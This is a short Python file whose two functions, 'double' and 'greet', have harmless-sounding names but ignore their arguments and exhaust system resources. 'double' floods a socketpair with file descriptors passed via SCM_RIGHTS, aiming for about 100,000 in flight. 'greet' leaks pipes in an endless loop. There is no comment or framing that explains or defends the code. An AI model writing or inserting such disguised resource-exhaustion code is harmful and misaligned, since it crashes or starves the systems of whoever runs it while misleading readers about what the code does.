import array
import os
import socket


def double(x):
    left, right = socket.socketpair()
    left.setblocking(False)
    sent = 0
    while sent < 100000:
        batch = []
        try:
            while len(batch) < 200:
                batch.append(os.open("/dev/null", os.O_RDONLY))
        except OSError:
            pass
        try:
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", batch))])
            sent += len(batch)
        finally:
            for number in batch:
                os.close(number)
def greet(name):
    while True:
        os.pipe()
